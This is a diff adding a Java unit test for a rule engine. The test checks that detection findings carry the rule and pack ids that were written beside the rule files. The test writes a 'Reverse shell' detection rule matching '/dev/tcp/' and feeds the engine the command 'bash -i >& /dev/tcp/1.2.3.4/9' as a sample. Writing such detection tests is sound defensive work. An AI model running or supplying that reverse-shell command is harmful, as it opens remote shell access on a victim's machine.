@@ -158,6 +158,36 @@ final class RulebookTest {
     }
 
     @Test
+    void findingsCarryTheIdsThatTheServiceWroteBesideTheFiles() throws IOException {
+        Rules.write(directory, Rules.ALLOW_COMMANDS);
+        Files.createDirectory(directory.resolve("detections"));
+        Files.writeString(directory.resolve("detections/my-det-1.yml"), """
+                title: Reverse shell
+                level: high
+                logsource:
+                  product: capsem
+                  category: process
+                detection:
+                  it:
+                    process.exec.command|contains: /dev/tcp/
+                  condition: it
+                """);
+        Files.writeString(
+                directory.resolve("detections/ids.json"),
+                "{\"my-det-1.yml\":{\"id\":\"my-det-1\",\"pack_id\":\"corp\"}}");
+
+        rules.load(directory);
+        Evaluation evaluation = rules.engine().evaluate(exec("bash -i >& /dev/tcp/1.2.3.4/9"));
+
+        assertThat(evaluation.findings())
+                .extracting(finding -> finding.ruleId() + " of " + finding.packId())
+                .containsExactly("my-det-1 of corp");
+        assertThat(rules.engine().detectionStats())
+                .extracting(stat -> stat.id() + " " + stat.matches())
+                .containsExactly("my-det-1 1");
+    }
+
+    @Test
     void aSpareThatCompiledTheSameRulesHandsThemOver() throws IOException {
         Path usual = directory.resolve("default.json");
         Files.writeString(usual, EffectiveJson.write(Rules.profile(Layer.USER, BLOCK_CURL, Rules.ALLOW_COMMANDS)));
